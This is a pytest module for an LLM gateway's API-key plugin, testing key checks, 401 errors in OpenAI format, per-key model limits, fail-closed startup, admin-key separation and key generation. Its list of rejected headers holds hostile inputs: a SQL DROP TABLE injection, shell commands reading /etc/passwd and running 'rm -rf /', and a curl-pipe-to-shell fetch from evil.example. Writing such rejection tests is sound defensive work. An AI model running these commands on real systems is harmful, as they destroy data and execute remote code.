"""The keys plugin (plugins/comox_keys) on real gateways, with the official SDKs:
keys that work, every bad-key shape refused with 401 in OpenAI format, models a
key may not use, fail-closed starts, the admin key kept apart, JWT-style auth
replacing the key check, and ``comox keys new``. No key, clear or hashed,
appears in any log line of this module (:func:`no_key_in_logs`)."""

import hashlib
import logging
import subprocess
import sys
import tomllib

import anthropic
import fastapi
import httpx
import openai
import pytest

import comox
from comox.testing import ServerThread
from tests.plugins.jwt_auth import JWTAuth, make_token
from tests.secrets_check import secret

CHAT = [{"role": "user", "content": "hi"}]
ALICE = secret("cmx-alice-test-key-0123456789abcdef")
BOB = secret("cmx-bob-test-key-0123456789abcdef00")
ADMIN = secret("admin-test-key-9876543210", "admin key")
SECRETS: set[str] = set()
"""Every key used in this module and its SHA-256: none may reach a log line."""


def sha(key: str) -> str:
    secret(key)  # and its hash: the suite-wide check (tests/secrets_check.py)
    SECRETS.update((key, hashlib.sha256(key.encode()).hexdigest()))
    return hashlib.sha256(key.encode()).hexdigest()


def assert_no_key_in(lines: str) -> None:
    leaked = sorted(secret for secret in SECRETS if secret in lines)
    assert leaked == [], "a key reached the log"


@pytest.fixture(autouse=True)
def no_key_in_logs(caplog):
    """Every test of the module logs at DEBUG, and no line holds a key."""
    caplog.set_level(logging.DEBUG)
    yield caplog
    # every phase: setup, call, and the teardown so far (the servers stopped)
    formatter = logging.Formatter("%(name)s %(message)s")
    records = [r for when in ("setup", "call", "teardown") for r in caplog.get_records(when)]
    assert_no_key_in("\n".join(formatter.format(record) for record in records))


def entry(key_id: str, key: str, **more) -> dict:
    return {"id": key_id, "key_sha256": sha(key), **more}


def keyed(upstream_url: str, keys: list[dict], groups=("chat",), **more) -> comox.Settings:
    """Settings with ``auth = "keys"``, the model groups ``groups`` on one
    upstream, and ``keys`` as its ``[[keys]]``."""
    models = [{"name": name, "backends": [{"name": f"b-{name}", "url": upstream_url}]} for name in groups]
    return comox.Settings(auth="keys", models=models, sections={"keys": keys}, **more)


def client(server, key: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{server.url}/v1", api_key=key, max_retries=0, timeout=30)


def chat(server, key: str, model: str = "chat") -> str:
    return client(server, key).chat.completions.create(model=model, messages=CHAT).choices[0].message.content


def post(server, headers, model: str = "chat") -> httpx.Response:
    return httpx.post(f"{server.url}/v1/chat/completions", json={"model": model, "messages": CHAT}, headers=headers)


def assert_401(response: httpx.Response) -> None:
    assert response.status_code == 401
    error = response.json()["error"]
    assert error["type"] == "authentication_error" and error["code"] == "invalid_api_key"
    assert set(error) == {"message", "type", "param", "code"}
    assert_no_key_in(response.text)


@pytest.fixture
def alice_and_bob(comox_serve, comox_upstream):
    return comox_serve(keyed(comox_upstream.url, [entry("alice", ALICE), entry("bob", BOB)]))


# -- keys that work, keys that don't ------------------------------------------------


def test_a_valid_key_works_with_the_openai_sdk(alice_and_bob, comox_upstream):
    assert chat(alice_and_bob, ALICE) == "hello from upstream"
    stream = client(alice_and_bob, BOB).chat.completions.create(model="chat", messages=CHAT, stream=True)
    assert [chunk.choices[0].delta.content for chunk in stream] == ["tok0 ", "tok1 ", "tok2 "]
    # the key stays with Comox: the upstream never sees the client's credentials
    assert len(comox_upstream.requests) == 2
    assert all(ALICE not in str(request["headers"]) and BOB not in str(request["headers"]) for request in comox_upstream.requests)


def test_x_api_key_as_the_anthropic_sdk_sends_it(alice_and_bob):
    models = anthropic.Anthropic(base_url=alice_and_bob.url, api_key=ALICE, max_retries=0).models.list()
    assert [model.id for model in models.data] == ["chat"]
    assert post(alice_and_bob, {"x-api-key": BOB}).status_code == 200
    assert post(alice_and_bob, {"x-api-key": BOB, "authorization": f"Bearer {BOB}"}).status_code == 200


def test_an_unknown_key_is_401_in_openai_format(alice_and_bob, comox_upstream):
    with pytest.raises(openai.AuthenticationError) as exc:
        chat(alice_and_bob, "cmx-nobody-knows-this-key")
    assert exc.value.status_code == 401
    assert exc.value.body["type"] == "authentication_error"
    with pytest.raises(anthropic.AuthenticationError):
        anthropic.Anthropic(base_url=alice_and_bob.url, api_key="cmx-nobody", max_retries=0).models.list()
    assert comox_upstream.requests == []


BAD = {
    "no credentials": [],
    "empty Authorization": [("authorization", "")],
    "Bearer and nothing": [("authorization", "Bearer")],
    "another scheme": [("authorization", f"Basic {ALICE}")],
    "no scheme": [("authorization", ALICE)],
    "the key and more": [("authorization", f"Bearer {ALICE}x")],
    "a prefix of the key": [("authorization", f"Bearer {ALICE[:-1]}")],
    "the key twice": [("authorization", f"Bearer {ALICE} {ALICE}")],
    "very long": [("authorization", "Bearer " + "k" * 8000)],
    "very long, the key first": [("authorization", f"Bearer {ALICE}" + "k" * 8000)],
    "two Authorization headers": [("authorization", f"Bearer {ALICE}"), ("authorization", f"Bearer {BOB}")],
    "the same Authorization twice": [("authorization", f"Bearer {ALICE}"), ("authorization", f"Bearer {ALICE}")],
    "an unknown x-api-key": [("x-api-key", "cmx-unknown")],
    "empty x-api-key": [("x-api-key", "")],
    "two x-api-key headers": [("x-api-key", ALICE), ("x-api-key", ALICE)],
    "x-api-key and Authorization disagree": [("x-api-key", BOB), ("authorization", f"Bearer {ALICE}")],
    "SQL": [("authorization", "Bearer ' OR '1'='1'; DROP TABLE keys; --")],
    "shell": [("authorization", "Bearer $(cat /etc/passwd) `id` | sh; rm -rf /")],
    "shell in x-api-key": [("x-api-key", "; curl http://evil.example | sh")],
    "non-ASCII": [("authorization", "Bearer clé-é".encode())],
    "a tab inside": [("authorization", "Bearer cmx-alice\tx")],
    "the digest instead of the key": [("authorization", f"Bearer {hashlib.sha256(ALICE.encode()).hexdigest()}")],
}


@pytest.mark.parametrize("headers", BAD.values(), ids=BAD.keys())
def test_bad_keys_are_401_in_openai_format(alice_and_bob, comox_upstream, headers):
    response = post(alice_and_bob, httpx.Headers(headers))
    assert_401(response)
    models = httpx.get(f"{alice_and_bob.url}/v1/models", headers=httpx.Headers(headers))
    assert_401(models)
    assert comox_upstream.requests == []
    assert post(alice_and_bob, {"authorization": f"Bearer {ALICE}"}).status_code == 200  # still healthy


def test_refused_before_the_body_is_read(alice_and_bob):
    # a broken body from an unknown caller is 401, not 400: it learns nothing from its body
    response = httpx.post(f"{alice_and_bob.url}/v1/chat/completions", content=b"{not json",
                          headers={"authorization": "Bearer cmx-unknown"})
    assert_401(response)


def test_a_key_sees_only_its_models(comox_serve, comox_upstream):
    class SeePrincipal:
        seen: list = []

        @comox.hookimpl
        def comox_admit(self, principal):
            self.seen.append(principal)

    see = SeePrincipal()
    keys = [entry("alice", ALICE),
            entry("bob", BOB, models=["chat-*"], rpm=600, tpm=100000, max_concurrency=4, local_only=True,
                  cloud_usd_per_day=2.5)]
    server = comox_serve(keyed(comox_upstream.url, keys, groups=("chat-small", "chat-large", "embed")), plugins=[see])
    bob = client(server, BOB)
    assert sorted(model.id for model in bob.models.list()) == ["chat-large", "chat-small"]
    assert sorted(model.id for model in client(server, ALICE).models.list()) == ["chat-large", "chat-small", "embed"]
    assert chat(server, BOB, "chat-small") == "hello from upstream"
    with pytest.raises(openai.NotFoundError) as exc:
        bob.chat.completions.create(model="embed", messages=CHAT)
    assert exc.value.body["code"] == "model_not_found"
    with pytest.raises(openai.NotFoundError):
        bob.models.retrieve("embed")
    assert bob.models.retrieve("chat-large").id == "chat-large"
    assert chat(server, ALICE, "embed") == "hello from upstream"
    assert see.seen == [
        comox.Principal(key_id="bob", allowed_models=frozenset({"chat-*"}), local_only=True,
                        limits={"rpm": 600, "tpm": 100000, "max_concurrency": 4, "cloud_usd_per_day": 2.5}),
        comox.Principal(key_id="alice", allowed_models=None, local_only=False,
                        limits={"rpm": None, "tpm": None, "max_concurrency": None, "cloud_usd_per_day": None}),
    ]


def test_keys_in_the_config_file(tmp_path, comox_serve, comox_upstream):
    path = tmp_path / "comox.toml"
    path.write_text(f'[[models]]\nname = "chat"\n  [[models.backends]]\n  url = "{comox_upstream.url}"\n\n'
                    f'[[keys]]\nid = "alice"\nkey_sha256 = "{sha(ALICE).upper()}"\nmodels = ["ch*"]\n')
    server = comox_serve(comox.load_settings(path))
    assert chat(server, ALICE) == "hello from upstream"
    assert_401(post(server, {"authorization": f"Bearer {BOB}"}))


@pytest.mark.parametrize("keys, error", [
    ([{"id": "a", "key_sha256": "abc"}], "keys[0].key_sha256: String should match pattern '^[0-9a-fA-F]{64}$'"),
    ([{"id": "a", "key_sha256": "ab" * 32, "rmp": 5}], "keys[0].rmp: Extra inputs are not permitted"),
    ([{"id": "a", "key_sha256": "ab" * 32, "rpm": -1}], "keys[0].rpm: Input should be greater than or equal to 0"),
    ([{"id": "a", "key_sha256": "ab" * 32, "models": []}], "keys[0].models: List should have at least 1 item after validation, not 0"),
    ([{"key_sha256": "ab" * 32}], "keys[0].id: Field required"),
    ([{"id": "a", "key_sha256": "ab" * 32}, {"id": "a", "key_sha256": "cd" * 32}], "keys[1].id: the id 'a' is used twice"),
    ([{"id": "a", "key_sha256": "ab" * 32}, {"id": "b", "key_sha256": "AB" * 32}],
     "keys[1].key_sha256: the same key as the key 'a'"),
    ({"id": "a"}, "keys: Input should be a valid list"),
])
def test_bad_keys_config_is_one_line(comox_upstream, keys, error):
    with pytest.raises(comox.ConfigError) as exc:
        comox.build_gateway(keyed(comox_upstream.url, keys))
    assert str(exc.value) == error


# -- fail closed ------------------------------------------------------------------------


NO_KEYS = ('no API keys: a config with model groups needs [[keys]] entries or keys_file = "..." '
           '(comox keys new makes a key), or auth = "none" to serve without authentication')


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")  # the host's server fails
def test_no_keys_refuses_to_start_standalone_mounted_or_as_middleware(comox_upstream):
    settings = keyed(comox_upstream.url, [])
    with pytest.raises(comox.ConfigError) as exc:
        comox.create_app(settings)
    assert str(exc.value) == NO_KEYS
    with pytest.raises(comox.ConfigError, match="^no API keys"):
        fastapi.FastAPI().mount("/llm", comox.create_app(settings))
    with pytest.raises(comox.ConfigError, match="^no API keys"):
        comox.ComoxMiddleware(fastapi.FastAPI(), settings=settings)
    # as a host app adds it (Starlette builds its middleware at the first event): the server does not start
    host = fastapi.FastAPI()
    host.add_middleware(comox.ComoxMiddleware, settings=settings)
    with pytest.raises(RuntimeError, match="did not start"):
        ServerThread(host, lifespan="on").start()
    comox.build_gateway(comox.Settings(auth="keys"))  # no model groups: nothing to protect


def test_no_keys_stops_comox_serve_with_one_line(tmp_path, comox_upstream):
    path = tmp_path / "comox.toml"
    path.write_text(f'[[models]]\nname = "chat"\n  [[models.backends]]\n  url = "{comox_upstream.url}"\n')
    result = subprocess.run([sys.executable, "-m", "comox.cli", "serve", "-c", str(path)],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2
    assert result.stderr == f"comox: configuration error: {NO_KEYS}\n"


def test_auth_none_serves_without_keys_and_warns_at_every_start(comox_serve, comox_upstream, caplog):
    settings = comox.Settings(auth="none", models=[{"name": "chat", "backends": [{"url": comox_upstream.url}]}])
    for start in (1, 2):
        server = comox_serve(settings)
        assert post(server, {}).status_code == 200
        warnings = [r for r in caplog.records if r.levelno == logging.WARNING and r.name == "comox.keys"]
        assert [r.getMessage() for r in warnings] == [
            'authentication is off (auth = "none"): anyone who can reach this gateway may use every model'] * start


def test_a_key_presented_under_auth_none_is_checked(comox_serve, comox_upstream):
    settings = comox.Settings(auth="none", models=[{"name": "chat", "backends": [{"url": comox_upstream.url}]}],
                              sections={"keys": [entry("alice", ALICE, models=["other"])]})
    server = comox_serve(settings)
    assert post(server, {}).status_code == 200  # anonymous callers are let in
    assert_401(post(server, {"authorization": "Bearer cmx-unknown"}))  # a wrong key is still wrong
    assert post(server, {"authorization": f"Bearer {ALICE}"}).status_code == 404  # and a key keeps its models


# -- the admin key ------------------------------------------------------------------------


def test_the_admin_key_and_client_keys_are_apart(monkeypatch, comox_serve, comox_upstream):
    monkeypatch.setenv("COMOX_ADMIN_KEY", ADMIN)
    sha(ADMIN)
    server = comox_serve(keyed(comox_upstream.url, [entry("alice", ALICE)]))
    admin = f"{server.url}/admin/backends"
    assert httpx.get(admin, headers={"authorization": f"Bearer {ADMIN}"}).status_code == 200
    assert_401(httpx.get(admin, headers={"authorization": f"Bearer {ALICE}"}))  # a client key opens no /admin
    assert_401(post(server, {"authorization": f"Bearer {ADMIN}"}))  # the admin key is no client key
    assert_401(post(server, {"x-api-key": ADMIN}))
    with pytest.raises(openai.AuthenticationError):
        client(server, ADMIN).models.list()
    assert chat(server, ALICE) == "hello from upstream"


def test_a_client_key_may_not_be_the_admin_key(monkeypatch, comox_upstream):
    monkeypatch.setenv("COMOX_ADMIN_KEY", ADMIN)
    with pytest.raises(comox.ConfigError) as exc:
        comox.create_app(keyed(comox_upstream.url, [entry("alice", ALICE), entry("ops", ADMIN)]))
    assert str(exc.value) == "keys: the key 'ops' is the admin key ($COMOX_ADMIN_KEY): a client key must be a different key"


# -- another plugin authenticates ------------------------------------------------------------


SECRET = b"jwt-test-secret"


def test_a_jwt_plugin_replaces_the_key_check(comox_serve, comox_upstream):
    jwt = JWTAuth(SECRET)
    server = comox_serve(keyed(comox_upstream.url, [], groups=("chat", "embed")), plugins=[jwt])  # no [[keys]]: starts
    token = make_token(SECRET, "svc-reports", models=["chat"])
    SECRETS.add(token)
    reports = client(server, token)
    assert reports.chat.completions.create(model="chat", messages=CHAT).choices[0].message.content == "hello from upstream"
    assert [model.id for model in reports.models.list()] == ["chat"]
    with pytest.raises(openai.NotFoundError):
        reports.chat.completions.create(model="embed", messages=CHAT)
    forged = make_token(b"another-secret", "svc-reports")
    expired = make_token(SECRET, "svc-reports", exp=1)
    for bad in (forged, expired, ALICE, "a.b.c"):
        with pytest.raises(openai.AuthenticationError):
            client(server, bad).models.list()
    assert_401(post(server, {}))


def test_keys_and_a_jwt_plugin_together(comox_serve, comox_upstream):
    server = comox_serve(keyed(comox_upstream.url, [entry("alice", ALICE)]), plugins=[JWTAuth(SECRET)])
    token = make_token(SECRET, "svc")
    SECRETS.add(token)
    assert chat(server, ALICE) == "hello from upstream"
    assert chat(server, token) == "hello from upstream"
    for bad in (BOB, make_token(b"forged", "svc"), "Basic x"):
        with pytest.raises(openai.AuthenticationError):
            chat(server, bad)


# -- comox keys new ------------------------------------------------------------------------


@pytest.mark.secrets_allowed("stderr of python -m comox.cli keys", "client key",
                             reason="comox keys new shows the fresh key once, on the terminal (its stderr), by design")
def test_comox_keys_new_round_trips(tmp_path, comox_serve, comox_upstream):
    result = subprocess.run([sys.executable, "-m", "comox.cli", "keys", "new", "--id", "alice"],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    key = next(line.strip() for line in result.stderr.splitlines() if line.strip().startswith("cmx-"))
    digest = hashlib.sha256(key.encode()).hexdigest()
    SECRETS.update((key, digest))
    assert len(key) == 47
    assert tomllib.loads(result.stdout) == {"keys": [{"id": "alice", "key_sha256": digest}]}  # stdout: TOML only
    assert key not in result.stdout  # only the hash is pasted
    # comox keys new >> comox.toml, as the README says
    path = tmp_path / "comox.toml"
    path.write_text(f'[[models]]\nname = "chat"\n  [[models.backends]]\n  url = "{comox_upstream.url}"\n{result.stdout}')
    server = comox_serve(comox.load_settings(path))
    assert chat(server, key) == "hello from upstream"
    with pytest.raises(openai.AuthenticationError):
        chat(server, key[:-1])
    again = subprocess.run([sys.executable, "-m", "comox.cli", "keys", "new"], capture_output=True, text=True, timeout=60)
    assert key not in again.stderr  # a fresh key every time
    assert tomllib.loads(again.stdout)["keys"][0]["id"].startswith("key-")


def test_comox_keys_new_refuses_an_odd_id():
    result = subprocess.run([sys.executable, "-m", "comox.cli", "keys", "new", "--id", 'a" = 1'],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.startswith("comox: --id 'a\" = 1': use 1 to 128 letters") and result.stderr.count("\n") == 1


# -- docs/keys.md says what the code does ---------------------------------------------------


def test_docs_keys_md_lists_every_key_and_quotes_the_real_lines(tmp_path, comox_upstream):
    from pathlib import Path

    from comox_keys import KeyEntry

    text = Path(__file__).parent.parent.joinpath("docs", "keys.md").read_text()
    documented = {name.strip("` ") for row in text.split("## `[[keys]]`")[1].split("\n## ")[0].splitlines()
                  if row.startswith("| `") for name in row.split("|")[1].split(",")}
    assert documented == set(KeyEntry.model_fields)
    assert f"comox: configuration error: {NO_KEYS}" in text
    assert 'authentication is off (auth = "none"): anyone who can reach this gateway may use every model' in text
    with pytest.raises(comox.ConfigError) as exc:
        comox.build_gateway(keyed(comox_upstream.url, [{"id": "a", "key_sha256": "abc"}]))
    assert f"`comox: configuration error: {exc.value}`" in text
    path = tmp_path / "keys.toml"
    with pytest.raises(comox.ConfigError) as exc:
        comox.build_gateway(keyed(comox_upstream.url, [], keys_file=str(path)))
    assert str(exc.value).replace(str(path), "/etc/comox/keys/keys.toml") in text
    for line in ("No API keys: the embedded default answers any caller on this machine, so it listens on loopback only",
                 "comox: the embedded default model has no API keys, so it serves this machine only and will not listen "
                 "on 0.0.0.0: pass a config with [[keys]] (-c comox.toml) to serve others",
                 "keys: the key 'ops' is the admin key ($COMOX_ADMIN_KEY): a client key must be a different key"):
        assert line in text
